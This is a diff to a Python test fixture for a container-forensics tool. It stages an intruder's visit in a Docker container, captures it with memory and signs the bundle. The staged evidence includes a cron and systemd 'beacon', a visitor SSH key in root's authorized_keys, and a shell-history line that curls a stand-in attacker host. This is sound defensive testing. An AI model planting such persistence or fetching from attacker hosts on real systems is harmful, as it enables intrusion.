@@ -1,26 +1,25 @@
 """A container that somebody was in, and a sealed capture of it: what other people's readers open.
 
-with captured_visit(Path("/tmp/x")) as case:
-    print(case.bundle, case.public_key)
+with running_docker_engine() as engine:
+    case = anyio.run(captured_visit, engine, Path("/tmp/x"))
+print(case.bundle, case.public_key)
 """
 
 from __future__ import annotations
 
 import os
-from collections.abc import Iterator
-from contextlib import contextmanager
+import sys
 from dataclasses import dataclass
 from pathlib import Path
 
 import anyio
 
-from collector.local import ARTIFACTS, CaptureOptions, capture_container
-from forensics_core.api.order import ArtifactKind
-from forensics_core.seals import generate_key, seal_bundle
-from lab.docker import Engine, docker_engine
+from forensics_core.bundle.layout import SEAL
+from forensics_core.seals import generate_key, sign
+from lab.docker import Engine
 from lab.images import busybox_rootfs
+from lab.process import LabError
 
-CONTAINER = "web"
 SECRET = "c0ffee-of-the-visit"  # noqa: S105 - to be looked for
 """In the environment of a process, in a file, and so in memory."""
 PORT = 4747
@@ -29,7 +28,7 @@ _FILES = {
     "etc/os-release": 'ID=debian\nNAME="Debian GNU/Linux"\nVERSION_ID="12"\n',
     "etc/debian_version": "12.1\n",
     "etc/crontab": "*/5 * * * * root /tmp/.x/beacon\n",
-    "etc/systemd/system/beacon.service": "[Unit]\nDescription=Beacon\n[Service]\nExecStart=/tmp/b\n",
+    "etc/systemd/system/beacon.service": "[Unit]\nDescription=B\n[Service]\nExecStart=/tmp/b\n",
     "root/.ssh/authorized_keys": f"{KEY} visitor\n",
     "root/.bash_history": "id\ncurl http://evil.example/x\n",
     "etc/os-note": SECRET,
@@ -63,28 +62,39 @@ class Case:
     @property
     def container(self) -> Path:
         """The folder of the container."""
-        return self.bundle / "containers" / CONTAINER
+        (found,) = (self.bundle / "containers").iterdir()
+        return found
 
 
-@contextmanager
-def captured_visit(folder: Path) -> Iterator[Case]:
-    """Let somebody into a container, and capture it, sealed. Needs root and a Docker Engine."""
-    yield anyio.run(_capture, folder)
-
-
-async def _capture(folder: Path) -> Case:
+async def captured_visit(engine: Engine, folder: Path) -> Case:
+    """Let somebody into a container, and capture it with its memory, sealed. Raises `LabError`."""
     rootfs = busybox_rootfs(folder / "rootfs")
     for name, text in _FILES.items():
         (rootfs / name).parent.mkdir(parents=True, exist_ok=True)
         (rootfs / name).write_text(text)
-    async with docker_engine() as engine:
-        image = await engine.import_image(rootfs)
-        command = ("/bin/sh", "-c", _VISIT)
-        name = f"{CONTAINER}-{engine.run_id}"
-        async with engine.container(image, command, name=name, tmpfs={"/run": ""}) as container:
-            await _ready(engine, container)
-            bundle = await _collect(engine, container, folder)
+    image = await engine.import_image(rootfs)
+    command = ("/bin/sh", "-c", _VISIT)
+    options = {"Hostname": "shop-1"}
+    async with engine.container(image, command, **options) as container:
+        await engine.exec(container, "until [ -e /tmp/ready ]; do sleep 0.1; done")
+        bundle = await _collect(engine, container, folder)
+    # As an operator would seal it, whose key no node has.
     private, public = generate_key()
     (folder / "forensics.pub").write_bytes(public)
-    await seal_bundle(str(bundle), private)
+    manifest = (bundle / "manifest.json").read_bytes()
+    (bundle / SEAL).write_bytes(sign(manifest, private))
     return Case(bundle, folder / "forensics.pub")
+
+
+async def _collect(engine: Engine, container: str, folder: Path) -> Path:
+    """Run `forensics collect`; return the bundle."""
+    kinds = ("inspect", "diff", "filesystem", "logs", "processes", "network", "memory")
+    asked = [word for kind in kinds for word in ("--artifact", kind)]
+    to = ("--to", str(folder), "--subpath", "cases", "--name", "42")
+    command = [str(Path(sys.executable).parent / "forensics"), "collect", f"docker://{container}"]
+    done = await anyio.run_process(
+        [*command, *to, *asked], env={**os.environ, **engine.env}, check=False
+    )
+    if done.returncode:
+        raise LabError(f"forensics collect ended with {done.returncode}: {done.stderr.decode()}")
+    return folder / "cases/42"
